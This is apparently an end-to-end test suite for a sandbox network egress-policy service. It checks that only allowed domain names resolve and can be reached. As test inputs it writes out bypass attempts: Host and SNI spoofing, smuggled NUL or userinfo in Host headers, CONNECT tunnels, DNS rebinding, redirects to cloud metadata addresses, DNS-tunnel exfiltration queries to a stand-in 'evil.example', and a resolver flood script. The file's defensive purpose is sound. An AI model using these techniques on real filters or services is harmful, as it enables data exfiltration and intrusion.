// Policies by name: what is resolved, what the answers open, and every trick that makes an allowed name mean another place.
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { Sandbox } from 'e2b'
import { get, install, netbox, probe, query, resolve, tcp, udp } from './lib/net.mjs'
import { forget, seen } from './lib/internet.mjs'
import { api, rejects, sdk } from './lib/suite.mjs'
import { until } from './lib/http.mjs'

const ALL = ['0.0.0.0/0', '::/0']
const only = (...names) => ({ network: { denyOut: ALL, allowOut: names } })
const refused = (r) => assert.ok(['again', 'no name', 'no data'].includes(r), `resolved: ${JSON.stringify(r)}`)
const shut = (r, what) => assert.ok(typeof r === 'string' ? !r.startsWith('open') : r.status >= 400 && r.headers['x-holdfast-denied'], `${what}: ${JSON.stringify(r)}`)

test('an allowed name works, on 80, 443 and other ports; another does not resolve and is not reached by number', async (t) => {
  const sbx = await netbox(t, only('allowed.example', 'db.example'))
  await forget()
  const r = await probe(sbx, get('http://allowed.example/a'), get('https://allowed.example/b', { verify: false }), resolve('other.example'), get('http://198.51.100.30/'), tcp('198.51.100.30', 5432))
  assert.deepEqual([r[0].status, r[1].status], [200, 200])
  refused(r[2])
  shut(r[3], 'number, on a port that is looked into')
  shut(r[4], 'number')
  assert.deepEqual(await probe(sbx, tcp('db.example', 5432, { read: 64 })), ['open:hello first\n'])
  const out = await seen()
  assert.ok(out.dns.every((q) => ['allowed.example', 'db.example'].includes(q.name)), JSON.stringify(out.dns))
  // TLS of a peeked connection is the origin's own: nothing was intercepted.
  const cert = (await sbx.commands.run('echo | openssl s_client -connect allowed.example:443 -servername allowed.example 2>/dev/null | openssl x509 -noout -issuer || true')).stdout
  if (cert) assert.match(cert, /Test Internet CA/)
})

test('validation speaks as E2B does', async () => {
  const create = (network) => Sandbox.create('base', { ...sdk, network })
  await rejects(create({ allowOut: ['allowed.example'] }), 'SandboxError', /400/)
  await rejects(create({ denyOut: ['allowed.example'] }), 'SandboxError', /400: .*invalid denied CIDR allowed\.example/)
  await rejects(create({ denyOut: ALL, allowOut: ['*'] }), 'SandboxError', /400/)
})

test('*.domain opens what is below, not the apex', async (t) => {
  const sbx = await netbox(t, only('*.wild.example'))
  const r = await probe(sbx, resolve('one.wild.example'), resolve('a.b.wild.example'), resolve('wild.example'))
  assert.deepEqual(r.slice(0, 2), [['198.51.100.11'], ['198.51.100.11']])
  refused(r[2])
})

test('42 an allowed name with a private answer is refused; a private host allowed by number works', async (t) => {
  const sbx = await netbox(t, only('private.example', 'private6.example', 'meta.example', 'mapped.example', 'mixed.example', 'alias-evil.example'))
  const r = await probe(sbx, ...['private', 'private6', 'meta', 'mapped', 'alias-evil'].map((n) => resolve(`${n}.example`)), resolve('mixed.example'), tcp('10.77.0.5', 7))
  r.slice(0, 5).forEach(refused)
  assert.deepEqual(r[5], ['198.51.100.31'])
  shut(r[6], 'private by number')
  const both = await netbox(t, only('private.example', '10.77.0.5'))
  assert.deepEqual(await probe(both, resolve('private.example'), tcp('10.77.0.5', 7)), [['10.77.0.5'], 'open:x'])
})

test('an open sandbox gets no private answers either', async (t) => {
  const sbx = await netbox(t)
  refused((await probe(sbx, resolve('private.example')))[0])
})

test('43 rebinding: the address that was checked is the one that is dialled', async (t) => {
  const sbx = await netbox(t, only('rebind.example'))
  await forget()
  const [first] = await probe(sbx, resolve('rebind.example'))
  assert.deepEqual(first, ['198.51.100.40'])
  for (let i = 0; i < 3; i++) await probe(sbx, get('http://rebind.example/latest/meta-data/'), get('http://10.77.0.5/'))
  const out = await seen()
  assert.ok(out.http.every((h) => h.to.endsWith('198.51.100.40')), JSON.stringify(out.http))
})

describe('44, 45, 47 names that are not what they seem', () => {
  let sbx
  test('set-up', async () => {
    sbx = await Sandbox.create('base', { ...sdk, timeoutMs: 300_000, ...only('allowed.example', 'cdn-a.example') })
    await install(sbx)
    await probe(sbx, resolve('allowed.example'), resolve('cdn-a.example'))
    await forget()
  })
  const A = '198.51.100.10'
  const CDN = '198.51.100.60'
  const cases = {
    'Host of another name on the allowed address': get('http://allowed.example/', { host: 'evil.example' }),
    'Host of a neighbour on the shared address': get('http://cdn-a.example/', { host: 'cdn-b.example' }),
    'SNI of a neighbour on the shared address': get('https://cdn-a.example/', { sni: 'cdn-b.example', verify: false }),
    'SNI of another name on the allowed address': get('https://allowed.example/', { sni: 'evil.example', verify: false }),
    'no SNI': get('https://allowed.example/', { sni: '', verify: false }),
    'SNI allowed, address of another': get('https://allowed.example/', { address: '203.0.113.66', verify: false }),
    'SNI allowed, but that address belongs to another allowed name': get('https://allowed.example/', { address: CDN, verify: false }),
    'Host allowed, but that address belongs to another allowed name': get('http://allowed.example/', { address: CDN }),
    'number as Host': get('http://allowed.example/', { host: A }),
    'allowed name as prefix': get('http://allowed.example/', { host: 'allowed.example.evil.example' }),
    'allowed name as suffix': get('http://allowed.example/', { host: 'evilallowed.example' }),
    'NUL in Host': get('http://allowed.example/', { host: 'evil.example\u0000.allowed.example' }),
    '%00 in Host': get('http://allowed.example/', { host: 'evil.example%00.allowed.example' }),
    'user info in Host': get('http://allowed.example/', { host: 'allowed.example@evil.example' }),
    'absolute form against Host': get('http://allowed.example/', { raw: 'GET http://evil.example/ HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n' }),
    'two Hosts': get('http://allowed.example/', { raw: 'GET / HTTP/1.1\r\nHost: allowed.example\r\nHost: evil.example\r\nConnection: close\r\n\r\n' }),
    'CONNECT to another': get('http://allowed.example/', { raw: 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n', timeout: 2 }),
    'SSH on 443': tcp(A, 443, { send: 'SSH-2.0-client\r\n', read: 64 }),
    'QUIC': udp(A, 443),
    'UDP by name': udp(A, 5353),
    'DNS over TLS': tcp('198.51.100.53', 853),
    'DNS of our own choice': udp('198.51.100.53', 53),
    'DNS over HTTPS by number': get('https://198.51.100.53/dns-query', { sni: '', verify: false }),
    'DNS over HTTPS with an allowed SNI': get('https://allowed.example/dns-query', { address: '198.51.100.53', verify: false }),
  }
  for (const [name, p] of Object.entries(cases))
    test(name, async () => {
      const [r] = await probe(sbx, p)
      if (typeof r === 'string') assert.ok(!/^open:(ping|SSH|HTTP)/.test(r) && r !== 'open', r)
      else assert.ok(r.status >= 400, JSON.stringify(r))
    })
  test('nothing of it arrived under a name that is not allowed', async () => {
    const hosts = (await seen()).http.map((h) => h.host)
    assert.deepEqual(hosts.filter((h) => !['allowed.example', 'cdn-a.example'].includes(h)), [])
  })
  test('spellings of the allowed name itself work', async () => {
    const r = await probe(sbx, get('http://allowed.example/', { host: 'ALLOWED.example' }), get('http://allowed.example/', { host: 'allowed.example.' }), get('http://allowed.example/', { host: 'allowed.example:80' }))
    assert.deepEqual([r[0].status, r[2].status], [200, 200])
  })
  test('a client that changes Host on a connection that is open', async () => {
    const two = (h) => `GET /one HTTP/1.1\r\nHost: allowed.example\r\n\r\nGET /two HTTP/1.1\r\nHost: ${h}\r\nConnection: close\r\n\r\n`
    const [bad, good] = await probe(sbx, get('http://allowed.example/', { raw: two('evil.example') }), get('http://allowed.example/', { raw: two('allowed.example') }))
    assert.equal(good.answers, 2)
    assert.ok(bad === 'reset' || bad === 'closed' || bad.status === 200, JSON.stringify(bad))
    assert.deepEqual((await seen()).http.filter((h) => h.host === 'evil.example'), [])
  })
  test('end', () => sbx.kill())
})

test('46 a redirect to a host that is not allowed ends there', async (t) => {
  const sbx = await netbox(t, only('redirect.example', 'allowed.example'))
  await forget()
  const curl = (to) => sbx.commands.run(`curl -s -m 5 -L -o /dev/null -w '%{http_code} %{num_redirects}' 'http://redirect.example/redirect?to=${encodeURIComponent(to)}' || true`)
  assert.equal((await curl('http://allowed.example/')).stdout, '200 1')
  for (const to of ['http://evil.example/', 'http://203.0.113.66/', 'http://169.254.169.254/latest/meta-data/', 'http://10.77.0.5/'])
    assert.doesNotMatch((await curl(to)).stdout, /^200/)
  assert.ok((await seen()).http.every((h) => ['redirect.example', 'allowed.example'].includes(h.host)))
})

test('48 a name that is not allowed never leaves the host; no tunnel through DNS; a flood is throttled', async (t) => {
  const [sbx, calm] = await Promise.all([netbox(t, only('*.wild.example')), netbox(t)])
  await forget()
  const r = await probe(
    sbx,
    query('secret-data.evil.example'),
    query('secret-data.evil.example', { type: 16 }),
    query('secret-data.evil.example', { over: 'tcp' }),
    query('one.wild.example', { type: 16 }),
    query('one.wild.example', { type: 10 }),
    query('one.wild.example', { type: 255 }),
    query(`${'a'.repeat(63)}.${'b'.repeat(63)}.wild.example`),
    query('x', { raw: '00' }),
    query('x', { raw: 'ffff01000001000000000000c00c00010001' })
  )
  for (const x of r.slice(0, 3)) assert.equal(x.rcode, 5, JSON.stringify(r))
  for (const x of r.slice(3, 7)) assert.equal(x.answers, 0, JSON.stringify(r))
  assert.deepEqual((await seen()).dns, [])
  // 10,000 questions as fast as they go; the neighbour is served all the time.
  const flood = sbx.commands.run(`python3 -c "
import socket
ns=[l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect((ns,53))
for i in range(10000):
    n=b'q%d'%i
    try: s.send(b'aa\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'+bytes([len(n)])+n+b'\\x04wild\\x07example\\x00\\x00\\x01\\x00\\x01')
    except OSError: pass
"`)
  for (let i = 0; i < 5; i++) assert.deepEqual((await probe(calm, resolve('allowed.example')))[0].length, 2)
  await flood
  assert.ok((await seen()).dns.filter((q) => /^q\d+\.wild/.test(q.name)).length < 3000)
})

test('many records, aliases and short lives', async (t) => {
  const sbx = await netbox(t, only('many.example', 'alias.example', 'ttl1.example'))
  const r = await probe(sbx, resolve('many.example'), resolve('alias.example'), get('http://alias.example/'), get('http://ttl1.example/'))
  assert.equal(r[0].length, 40)
  assert.equal(r[1].length, 2)
  assert.deepEqual([r[2].status, r[3].status], [200, 200])
  const [last] = await probe(sbx, get('http://many.example/', { address: '198.51.100.139' }))
  assert.equal(last.status, 200)
})

test('150 questions at once over one TCP connection are all answered, cached or not', async (t) => {
  const sbx = await netbox(t, only('*.wild.example', 'allowed.example'))
  assert.deepEqual(await probe(sbx, ['pipeline', { name: 'allowed.example', n: 150 }]), [150])
  assert.deepEqual(await probe(sbx, ['pipeline', { name: 'evil.example', n: 150 }]), [150])
})

test('policy groups: bound by name, edited once for all', async (t) => {
  const http = api()
  await http.call('PUT', '/v1/policies/e2e-search', { allow_out: ['allowed.example'] })
  const [a, b] = await Promise.all([netbox(t, { network: { policies: ['e2e-search'] } }), netbox(t, { network: { policies: ['e2e-search'], denyOut: ALL, allowOut: ['other.example'] } })])
  let r = await probe(a, get('http://allowed.example/'), resolve('other.example'))
  assert.equal(r[0].status, 200)
  refused(r[1])
  assert.equal((await probe(b, get('http://other.example/')))[0].status, 200)
  await http.call('PUT', '/v1/policies/e2e-search', { allow_out: ['cdn-a.example'] })
  for (const sbx of [a, b]) {
    r = await probe(sbx, get('http://cdn-a.example/'), resolve('allowed.example'))
    assert.equal(r[0].status, 200)
    refused(r[1])
  }
  const left = await http.json('DELETE', '/v1/policies/e2e-search')
  assert.equal(left.status, 409)
  await Promise.all([a.kill(), b.kill()])
  await until('the group goes', async () => [200, 204].includes((await http.json('DELETE', '/v1/policies/e2e-search')).status), { timeoutMs: 5000 })
})

test('53 a refused name is one record with policy, sandbox and name', async (t) => {
  const sbx = await netbox(t, only('allowed.example'))
  await probe(sbx, resolve('evil.example'))
  const http = api()
  const record = await until('the record', async () => {
    const list = await http.call('GET', `/v1/sandboxes/${sbx.sandboxId}/outbound`)
    return (list.outbound ?? list.items ?? list.data ?? list).find((r) => r.name === 'evil.example')
  }, { timeoutMs: 10_000 })
  assert.equal(record.what, 'dns')
  assert.equal(record.sandbox, sbx.sandboxId)
  assert.ok('policy' in record)
})
